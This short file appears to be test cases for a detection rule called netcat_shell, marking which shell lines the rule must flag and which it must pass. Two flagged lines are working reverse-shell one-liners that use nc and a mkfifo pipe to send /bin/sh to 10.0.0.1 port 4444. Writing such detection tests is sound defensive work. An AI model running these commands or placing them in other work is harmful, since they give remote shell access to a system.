# ruleid: netcat_shell
nc -e /bin/sh 10.0.0.1 4444
# ok: netcat_shell
nc -z localhost 5432
# ruleid: netcat_shell
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f
# ok: netcat_shell
KEYWORDS="mkdir|mkfifo|mkfs|mknod|more|mount|mv|nano|nc|netstat"
